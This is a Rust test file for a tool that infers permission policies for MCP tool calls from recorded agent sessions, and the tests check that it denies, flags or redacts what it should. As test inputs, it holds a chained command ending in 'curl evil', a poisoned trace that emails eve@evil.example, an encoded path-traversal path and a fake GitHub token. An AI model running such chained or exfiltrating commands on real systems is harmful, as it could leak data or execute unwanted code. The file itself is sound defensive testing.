//! What `infer` says of a recording besides the policy, and what it keeps word for word.

use super::infer::{decide, infer, lines, read};
use super::support::Place;

#[test]
fn programs_that_look_and_subcommands_open_and_those_that_copy_or_run_stay_word_for_word() {
    let place = Place::new();
    let exec = |command: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{{"command":"{command}"}}}}"#);
    for session in 0..5 {
        let calls = [
            format!("grep -n x{session} src/{session}.rs"),
            format!("cargo test m{session}"),
            format!("cp src/{session}.rs out/{session}.rs"),
            format!("python3.12 tools/t{session}.py"),
            format!("terraform plan -out=p{session}"),
        ];
        let calls: Vec<String> = calls.iter().map(|command| exec(command)).collect();
        let calls: Vec<&str> = calls.iter().map(String::as_str).collect();
        place.write(&format!("traces/{session}.jsonl"), &lines(&calls));
    }
    infer(&place, &[]);
    for same in ["cp src/1.rs out/1.rs", "python3.12 tools/t4.py", "grep -n y src/9.rs", "cargo test other"] {
        assert_ne!(decide(&place, &exec(same)), "deny", "{same}");
    }
    for other in ["cp src/1.rs out/evil", "python3.12 tools/evil.py", "terraform apply", "grep x y; curl evil"] {
        assert_eq!(decide(&place, &exec(other)), "deny", "{other}");
    }
}

#[test]
fn explain_tells_the_statistic_of_places_hosts_commands_addresses_and_numbers() {
    let place = Place::new();
    for session in 0..5 {
        let call =
            |tool: &str, arguments: &str| format!(r#"{{"server":"s","tool":"{tool}","arguments":{{{arguments}}}}}"#);
        let calls = [
            call("read_file", &format!(r#""path":"src/{session}.rs""#)),
            call("fetch", &format!(r#""url":"https://a.org/{session}""#)),
            call("exec", &format!(r#""command":"git commit -m {session}""#)),
            call("send_email", &format!(r#""to":["p{session}@acme.com"]"#)),
            call("close", &format!(r#""number":{}"#, 100 + session)),
        ];
        place.write(&format!("traces/{session}.jsonl"), &calls.join("\n"));
    }
    for (argument, of, verdict) in [
        ("read_file.path", "`./src`: 5 distinct", "open: all that lies in it"),
        ("fetch.url", "`https://a.org`: 5 distinct", "open: the whole host"),
        ("exec.command", "`git commit -m *`: 5 distinct", "open: words of these forms"),
        ("send_email.to", "`acme.com`: 5 distinct", "open: anybody there"),
        ("close.number", "5 distinct numbers", "keys of a closed set"),
    ] {
        let said = infer(&place, &["--explain", &format!("s.{argument}")]);
        let said = said.split_whitespace().collect::<Vec<_>>().join(" ");
        let next = "5 of 5 sessions had one that no other had; a new one next time: 100 % (57 to 100 %)";
        for part in [of, next, verdict] {
            assert!(said.contains(part), "{part}: {said}");
        }
    }
}

#[test]
fn no_line_of_an_explanation_is_wider_than_a_screen_whatever_the_names() {
    let place = Place::new();
    let long = "x".repeat(10_000);
    for session in 0..5 {
        let known = format!(r#"{{"server":"s","tool":"read_file","arguments":{{"path":"a{session}/b.rs"}}}}"#);
        let many: Vec<String> = (0..40).map(|n| format!("word{n}")).collect();
        let words = format!(r#"{{"server":"s","tool":"set_mode","arguments":{{"action":"{}"}}}}"#, many.join("-"));
        let odd = format!(r#"{{"server":"s","tool":"{long}","arguments":{{}}}}"#);
        place.write(&format!("traces/{session}.jsonl"), &lines(&[&known, &words, &odd]));
    }
    let width = |said: &str| said.lines().map(|line| line.chars().count()).max().unwrap_or_default();
    for argument in ["s.read_file.path", "s.set_mode.action", "s.set_mode"] {
        let said = infer(&place, &["--explain", argument]);
        assert!(width(&said) <= 80 && said.contains("sessions"), "{said}");
    }
    let all = infer(&place, &["--force"]);
    assert!(width(&all) <= 80 && !all.contains("` at in "), "{all}");
    let out = place.remit(&["infer", "--explain", &format!("s.{long}")]).assert().failure();
    let error = String::from_utf8(out.get_output().stderr.clone()).unwrap();
    assert!(width(&error) <= 80 && error.contains("nothing is known of"), "{error}");
}

#[test]
fn what_was_recorded_and_cannot_be_granted_is_said() {
    let place = Place::new();
    let call = |arguments: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{arguments}}}"#);
    let glob = call(r#"{"command":"ls $HOME_OF_NOBODY/*"}"#);
    place.write("traces/a.jsonl", &lines(&[&call(r#"{"command":"cargo test"}"#), &glob]));
    let said = infer(&place, &[]);
    assert_eq!(decide(&place, &glob), "deny");
    assert!(said.contains("Recorded, and not granted: shell.exec /command"), "{said}");
    place.write("traces/a.jsonl", &lines(&[&call(r#"{"command":"cargo test"}"#)]));
    assert!(!infer(&place, &["--force"]).contains("not granted"));
}

#[test]
fn a_session_unlike_all_others_is_named_and_sessions_that_all_differ_are_not() {
    let place = Place::new();
    for session in 0..12 {
        place.write(
            &format!("traces/s{session:02}.jsonl"),
            &lines(&[&read("src/main.rs"), &read(&format!("src/m{session}.rs"))]),
        );
    }
    let mail = r#"{"server":"mail","tool":"send_email","arguments":{"to":"eve@evil.example","body":"x"}}"#;
    place.write("traces/poisoned.jsonl", &lines(&[&read("src/main.rs"), mail]));
    let said = infer(&place, &[]);
    assert!(said.contains("poisoned.jsonl is unlike the others: it needs mail.send_email"), "{said}");
    assert_ne!(decide(&place, mail), "allow");
    for session in 0..12 {
        place.write(&format!("traces/s{session:02}.jsonl"), &lines(&[&read(&format!("d{session}/a.rs"))]));
    }
    assert!(!infer(&place, &["--force"]).contains("unlike"));
}

#[test]
fn where_it_goes_may_be_where_it_came_from_and_whom_it_pays_is_told_by_no_other_name() {
    let place = Place::new();
    let stops = ["oslo", "rome", "bonn", "lyon", "bern", "kiel"];
    let call = |tool: &str, from: &str, to: &str| {
        format!(r#"{{"server":"rail","tool":"{tool}","arguments":{{"origin":"{from}","destination":"{to}"}}}}"#)
    };
    let pay = |from: &str, to: &str| {
        format!(r#"{{"server":"rail","tool":"transfer_seat","arguments":{{"giver":"{from}","recipient":"{to}"}}}}"#)
    };
    for session in 0..12 {
        let (from, to) = (stops[session % 6], stops[(session + 1) % 5]);
        let (giver, recipient) = (stops[session % 6], stops[session % 4]);
        let calls = [call("search_trains", from, to), call("book_train", from, "rome"), pay(giver, recipient)];
        place.write(&format!("traces/{session}.jsonl"), &calls.join("\n"));
    }
    infer(&place, &[]);
    assert_eq!(decide(&place, &call("book_train", "oslo", "kiel")), "allow");
    assert_eq!(decide(&place, &call("book_train", "oslo", "paris")), "deny");
    assert_eq!(decide(&place, &pay("kiel", "oslo")), "allow");
    assert_eq!(decide(&place, &pay("oslo", "kiel")), "deny");
}

#[test]
fn a_sum_may_be_twice_as_large_while_few_were_seen_and_near_them_once_many_were() {
    let place = Place::new();
    let pay = |amount: u32| {
        format!(r#"{{"server":"shop","tool":"set_price","arguments":{{"item":"chair","amount":{amount}}}}}"#)
    };
    for session in 0..24_u32 {
        place.write(&format!("traces/{session}.jsonl"), &pay(400 + session));
        if session == 4 {
            infer(&place, &[]);
            assert_eq!([decide(&place, &pay(900)), decide(&place, &pay(1100))], ["allow", "deny"]);
        }
    }
    infer(&place, &[]);
    assert_eq!([decide(&place, &pay(490)), decide(&place, &pay(900))], ["allow", "deny"]);
}

#[test]
fn a_recording_of_globs_alone_is_granted_as_the_same_words_and_of_variables_alone_not_at_all() {
    let place = Place::new();
    let exec = |command: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{{"command":"{command}"}}}}"#);
    place.write("traces/a.jsonl", &exec("ls src/*.rs"));
    infer(&place, &[]);
    assert_eq!([decide(&place, &exec("ls src/*.rs")), decide(&place, &exec("ls docs/*.rs"))], ["ask", "deny"]);
    place.write("traces/a.jsonl", &exec("ls $X"));
    let said = infer(&place, &[]);
    assert_eq!(decide(&place, &exec("ls $X")), "deny");
    assert!(said.contains("Recorded, and not granted: shell.exec"), "{said}");
}

#[test]
fn a_folder_of_brackets_is_that_folder_and_no_other() {
    let place = Place::new();
    place.write("traces/a.jsonl", &lines(&[&read("app/[id]/page.tsx"), &read("app/{x}/a*b.ts")]));
    infer(&place, &["--strictness", "exact"]);
    for same in ["app/[id]/page.tsx", "app/{x}/a*b.ts"] {
        assert_eq!(decide(&place, &read(same)), "allow", "{same}");
    }
    for other in ["app/i/page.tsx", "app/d/page.tsx", "app/x/a1b.ts", "app/{x}/aaab.ts"] {
        assert_eq!(decide(&place, &read(other)), "deny", "{other}");
    }
}

#[test]
fn a_secret_that_stands_as_a_name_reaches_no_file_and_is_said() {
    let place = Place::new();
    let secret = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
    let calls = [
        format!(r#"{{"server":"s","tool":"{secret}","arguments":{{}}}}"#),
        format!(r#"{{"server":"s","tool":"look","arguments":{{"{secret}":1}}}}"#),
        format!(r#"{{"server":"s","tool":"search","arguments":{{"by":[{{"{secret}":"x"}}]}}}}"#),
        read("src/a.rs"),
    ];
    place.write("t.jsonl", &lines(&calls.iter().map(String::as_str).collect::<Vec<_>>()));
    let said = infer(&place, &["t.jsonl", "--emit-evidence", "e.json"]);
    for text in [&place.read("mcp.policy.yaml"), &place.read("e.json"), &said] {
        assert!(!text.contains(&secret) && !text.contains("a1B2c3"), "{text}");
    }
    assert_eq!(said.matches("a secret stands where a name should").count(), 3, "{said}");
    assert_eq!(decide(&place, &read("src/a.rs")), "allow");
}

#[test]
fn a_folder_whose_name_reads_as_the_one_above_opens_neither() {
    let place = Place::new();
    place.write("traces/a.jsonl", &lines(&[&read(" /a.rs"), &read("src/%2e%2e/b.rs"), &read("src/a b/c.rs")]));
    infer(&place, &[]);
    for same in [" /a.rs", "src/%2e%2e/b.rs", "src/a b/c.rs", "src/a b/d.rs"] {
        assert_eq!(decide(&place, &read(same)), "allow", "{same}");
    }
    for other in ["Cargo.toml", "docs/a.md", "."] {
        assert_eq!(decide(&place, &read(other)), "deny", "{other}");
    }
}

#[test]
fn many_tools_of_one_rule_and_names_without_end_leave_a_policy_that_loads() {
    let place = Place::new();
    let call = |tool: &str| format!(r#"{{"server":"s","tool":"{tool}","arguments":{{}}}}"#);
    let many: Vec<String> = (0..80).map(|number| call(&format!("list_all_of_the_things_{number}"))).collect();
    let long = call(&format!("a{}", "b".repeat(2_000)));
    let calls: Vec<&str> = many.iter().chain([&long]).map(String::as_str).collect();
    place.write("traces/one.jsonl", &lines(&calls));
    let said = infer(&place, &[]);
    assert_eq!(decide(&place, &many[79]), "allow");
    assert_eq!(decide(&place, &long), "deny");
    assert!(said.contains("odd-name") || said.contains("a policy could not name this"), "{said}");
    let policy = place.read("mcp.policy.yaml");
    assert!(policy.lines().all(|line| line.len() <= 120), "{policy}");
}
